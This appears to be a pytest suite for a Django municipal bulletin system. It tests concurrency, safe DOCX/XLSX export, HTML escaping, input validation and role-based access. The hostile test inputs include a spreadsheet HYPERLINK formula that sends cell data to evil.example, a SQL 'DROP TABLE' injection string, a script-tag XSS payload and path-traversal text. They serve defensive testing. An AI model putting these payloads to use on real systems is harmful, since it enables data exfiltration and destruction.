"""Bulletins against a hostile user: racing on-demand issues, hostile query strings and
form fields on the pages, ids past the database's integers, other divisions' bulletins,
the wrong roles, and files of a bulletin whose content holds hostile text."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from bulletin_support import local, march_day
from django.test import Client
from django.utils import timezone
from docx import Document
from lxml import etree
from openpyxl import load_workbook

from case_support import City
from concurrency import run_together
from yiwang.core.models import AuditEntry
from yiwang.org import actions as org_actions
from yiwang.org.models import Division
from yiwang.reports.bulletins import actions
from yiwang.reports.bulletins.charts import draw, render_png
from yiwang.reports.bulletins.content import (
    BulletinContent,
    Chart,
    Paragraph,
    Section,
    Series,
    Table,
)
from yiwang.reports.models import Bulletin


@pytest.mark.django_db(transaction=True)
def test_racing_on_demand_issues_get_distinct_versions(city: City) -> None:
    """Eight issues of the same period at the same instant (on PostgreSQL: eight
    connections): eight rows numbered 1–8, never a shared number or a server error."""
    march_day(city)
    issuers = [city.users["leader"], city.users["shift_lead"]] * 4

    def job(user: Any) -> Any:
        return lambda: actions.issue_on_demand(
            user, "daily", date(2026, 3, 2), now=local(2026, 3, 3, 9)
        )

    results = run_together([job(u) for u in issuers])
    assert all(isinstance(r, Bulletin) for r in results), results
    assert sorted(r.version for r in results) == list(range(1, 9))
    stored = Bulletin.objects.filter(kind="daily", period_start=date(2026, 3, 2))
    assert sorted(stored.values_list("version", flat=True)) == list(range(1, 9))


@pytest.mark.django_db(transaction=True)
def test_racing_issues_through_the_api_are_all_created(city: City) -> None:
    march_day(city)
    clients = []
    for user in [city.users["leader"], city.users["shift_lead"]] * 3:
        client = Client()
        client.force_login(user)
        clients.append(client)

    def job(client: Client) -> Any:
        return lambda: client.post(
            "/api/reports/bulletins",
            {"kind": "weekly", "day": "2026-03-04"},
            content_type="application/json",
        )

    answers = run_together([job(c) for c in clients])
    assert [a.status_code for a in answers] == [201] * 6, answers
    assert sorted(a.json()["version"] for a in answers) == [1, 2, 3, 4, 5, 6]


# ---- files of a bulletin whose content holds hostile text ---------------------------------

# Characters XML 1.0 forbids (a file holding one does not open) and DEL, which it allows.
ILLEGAL = "\x01\x08\x0b\x0c\x1b"
CONTROL = ILLEGAL + "\x7f"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
LONG = "很长的标题" * 1000  # 5,000 characters
# Two "$" make matplotlib read TeX math, and this is not valid math (it failed the download).
TEX = "价格$\\frac{1$元"


def hostile_content() -> BulletinContent:
    cells: list[list[Any]] = [
        [FORMULA, "+1+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=2"],
        [f"控制{CONTROL}字符", "a\u202eb", "𠀀🚧", LONG, 1e308, None],
        ["99.5%", "", "0", -0.0, 12345678901234567890, "=1/0"],
    ]
    chart = Chart(
        title=f"{FORMULA}{CONTROL}{TEX}{LONG[:300]}",
        kind="hbar",
        categories=[FORMULA, f"街道{CONTROL}", LONG[:500], TEX, "𠀀🚧"],
        series=[
            Series(name=f"上报{CONTROL}", data=[1, None, 3.5, 0, 10**6]),
            Series(name=TEX, data=[2, 2, 2, 2, 2]),
        ],
        unit=f"${CONTROL}$",
    )
    pie = Chart(
        title="=饼图",
        kind="pie",
        categories=["=A1", CONTROL],
        series=[Series(name="-", data=[1, 2])],
    )
    table = Table(
        title=f"{FORMULA}{CONTROL}",
        columns=[FORMULA, f"列{CONTROL}", LONG[:200], "", "x", "y"],
        rows=cells,
        note=f"={CONTROL}",
    )
    return BulletinContent(
        kind="monthly",
        title=f'{LONG}{CONTROL}/\\:*?"<>|',
        period_label=f"2026年11月{CONTROL}",
        period_start="2026-11-01",
        period_end="2026-11-30",
        division_code="440304",
        division_name=f"福田区{CONTROL}",
        issuer=f"=福田区{CONTROL}",
        generated_at="2026-12-01T08:00:00+08:00",
        summary=[FORMULA, f"综述{CONTROL}", "<script>alert(1)</script>", LONG],
        sections=[
            Section(
                heading=f"{FORMULA}{CONTROL}",
                blocks=[Paragraph(text=f"{FORMULA}{CONTROL}{LONG}"), table, chart, pie],
            ),
            # A second section whose name is the same once cut to 31 characters.
            Section(heading=f"{FORMULA}{CONTROL}", blocks=[table]),
        ],
    )


@pytest.fixture
def hostile_bulletin(city: City) -> Bulletin:
    content = hostile_content()
    # Written directly: no builder writes such text, a later one or an edited name might.
    return Bulletin.objects.create(
        kind="monthly",
        period_start=date(2026, 11, 1),
        period_end=date(2026, 11, 30),
        division_path=Division.objects.get(code="440304").path,
        version=1,
        trigger="on_demand",
        issued_at=timezone.now(),
        title=f"{CONTROL}=通报/../{LONG}"[:200],
        content=content.model_dump(mode="json"),
    )


def _xml_parts(data: bytes) -> int:
    """Every XML part of an OOXML package parses (Word and Excel refuse one that does not)."""
    parts = 0
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(package.read(name))
                parts += 1
    return parts


def test_hostile_docx_opens(city: City, hostile_bulletin: Bulletin) -> None:
    client = Client()
    client.force_login(city.users["leader"])
    answer = client.get(f"/api/reports/bulletins/{hostile_bulletin.pk}/docx")
    assert answer.status_code == 200
    assert _xml_parts(answer.content) > 5
    document = Document(io.BytesIO(answer.content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert not any(ch in text for ch in ILLEGAL)
    assert "很长的标题" * 1000 in text  # the long title is all there
    assert len(document.tables) == 2 and len(document.inline_shapes) == 2
    # A header and a file name any system accepts: no control character, no path.
    disposition = answer["Content-Disposition"]
    assert disposition.isascii() and "\n" not in disposition
    name = unquote(disposition.split("filename*=UTF-8''")[1])
    assert "/" not in name and "\\" not in name and not any(ch in name for ch in CONTROL)
    assert name.endswith("（第1版）.docx") and len(name) <= 130


def test_hostile_xlsx_opens_without_formulas(city: City, hostile_bulletin: Bulletin) -> None:
    client = Client()
    client.force_login(city.users["leader"])
    answer = client.get(f"/reports/bulletins/{hostile_bulletin.pk}/xlsx/")
    assert answer.status_code == 200
    assert _xml_parts(answer.content) > 5
    book = load_workbook(io.BytesIO(answer.content))
    titles = [sheet.title for sheet in book.worksheets]
    assert len(set(t.lower() for t in titles)) == len(titles) and all(len(t) <= 31 for t in titles)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    assert not any(ch in cell.value for ch in ILLEGAL)
                    assert len(cell.value) <= 32_767


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_hostile_files_open_in_libreoffice(
    city: City, hostile_bulletin: Bulletin, tmp_path: Path
) -> None:
    """An office suite opens both files (converted headless: a refused file gives none)."""
    client = Client()
    client.force_login(city.users["leader"])
    for fmt, target in (("docx", "pdf"), ("xlsx", "csv")):
        answer = client.get(f"/api/reports/bulletins/{hostile_bulletin.pk}/{fmt}")
        assert answer.status_code == 200
        source = tmp_path / f"hostile.{fmt}"
        source.write_bytes(answer.content)
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{tmp_path}/profile",
                "--headless",
                "--convert-to",
                target,
                "--outdir",
                str(tmp_path),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        converted = tmp_path / f"hostile.{target}"
        assert converted.exists() and converted.stat().st_size > 100, fmt


@pytest.mark.parametrize("kind", ["bar", "hbar", "line", "pie"])
def test_charts_draw_names_with_dollars_literally(kind: str) -> None:
    for text in (TEX, "a$x^$b", "$$", "$\\sqrt{$", "$1$"):
        chart = Chart(
            title=text,
            kind=kind,  # type: ignore[arg-type]
            categories=[text, "乙"],
            series=[Series(name=text, data=[1, 2])],
            unit=text,
        )
        png = render_png(chart)
        assert png.startswith(b"\x89PNG")
        # Drawn as typed: the title's text artist holds the dollars, escaped for mathtext.
        title = draw(chart).axes[0].title.get_text()
        assert title == text.replace("$", "\\$")


def test_the_page_of_a_hostile_bulletin(city: City, hostile_bulletin: Bulletin) -> None:
    client = Client()
    client.force_login(city.users["leader"])
    page = client.get(f"/reports/bulletins/{hostile_bulletin.pk}/")
    assert page.status_code == 200
    html = page.content.decode()
    # Markup and script in the content are text, never markup.
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "\\u003Cscript" in html


# ---- the pages against hostile query strings and form fields ------------------------------

HOSTILE_VALUES = [
    "\x1b[31m",
    "\x00",
    "2026-13-01",
    "2026-02-30",
    "99999-01-01",
    "0001-01-01",
    "9999-12-31",
    "yearly",
    "daily\x1f",
    "x" * 5000,
    "1e30",
    str(10**30),
    "-1",
    "２０２６-03-02",
    "'; DROP TABLE reports_bulletin; --",
]


def _leader_client(city: City) -> Client:
    client = Client()
    client.force_login(city.users["leader"])
    return client


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_archive_and_hub_survive_hostile_query_strings(city: City, value: str) -> None:
    client = _leader_client(city)
    for url in ("/reports/bulletins/", "/reports/"):
        for name in ("kind", "day", "page"):
            answer = client.get(url, {name: value})
            # A NUL is refused by the site's middleware (400); anything else is a page.
            assert answer.status_code == (400 if "\x00" in value else 200), (url, name)


def test_archive_pages_past_the_end_and_huge(city: City) -> None:
    march_day(city)
    actions.issue_on_demand(
        city.users["leader"], "daily", date(2026, 3, 2), now=local(2026, 3, 3, 9)
    )
    client = _leader_client(city)
    for page in (str(10**30), str(2**63), "0", "-5", "abc"):
        answer = client.get("/reports/bulletins/", {"page": page})
        assert answer.status_code == 200
        # Django's paginator shows the nearest page there is: the only one, with the bulletin.
        assert "福田区2026年3月2日城市管理问题日盘点" in answer.content.decode(), page


@pytest.mark.parametrize(
    ("kind", "day", "message"),
    [
        ("yearly", "2026-03-02", "选择一个有效的选项"),
        ("daily\x1b", "2026-03-02", "选择一个有效的选项"),
        ("daily", "\x1b[31m", "输入一个有效的日期"),
        ("daily", "2026-02-30", "输入一个有效的日期"),
        ("daily", "99999-01-01", "输入一个有效的日期"),
        ("daily", "x" * 5000, "输入一个有效的日期"),
        ("daily", "1999-12-31", "请填写 2000 年至 2100 年之间的日期。"),
        ("monthly", "9999-12-31", "请填写 2000 年至 2100 年之间的日期。"),
        ("weekly", "2100-12-31", "该统计期尚未开始，不能生成通报。"),
        ("", "", "这个字段是必填项"),
    ],
)
def test_issue_form_refuses_hostile_fields(city: City, kind: str, day: str, message: str) -> None:
    answer = _leader_client(city).post("/reports/bulletins/issue/", {"kind": kind, "day": day})
    assert answer.status_code == 400
    assert message in answer.content.decode()
    assert not Bulletin.objects.exists()


def test_issue_form_refused_to_inspectors_and_handlers(city: City) -> None:
    for role in ("inspector", "handler"):
        client = Client()
        client.force_login(city.users[role])
        answer = client.post("/reports/bulletins/issue/", {"kind": "daily", "day": "2026-03-02"})
        assert answer.status_code == 403
    assert not Bulletin.objects.exists()


@pytest.mark.parametrize("suffix", ["", "docx/", "xlsx/"])
def test_bulletin_pages_by_role_scope_and_id(city: City, suffix: str) -> None:
    march_day(city)
    bulletin = actions.issue_on_demand(
        city.users["leader"], "daily", date(2026, 3, 2), now=local(2026, 3, 3, 9)
    )
    # The handler of 福田区 is in the bulletin's scope, the inspector of 南园街道 is not:
    # both are refused for their role (the downloads let handlers in before).
    for role in ("inspector", "handler"):
        client = Client()
        client.force_login(city.users[role])
        assert client.get(f"/reports/bulletins/{bulletin.pk}/{suffix}").status_code == 403
    street_lead = org_actions.create_staff(
        city.root,
        username="lead-b",
        password="test-pass-123",
        role="shift_lead",
        division_code="440304002",
    )
    client = Client()
    client.force_login(street_lead)
    for pk in (bulletin.pk, 2**63 - 1, 2**63, 10**40, 0):
        assert client.get(f"/reports/bulletins/{pk}/{suffix}").status_code == 404, pk
    assert not AuditEntry.objects.filter(action="reports.bulletin_downloaded").exists()
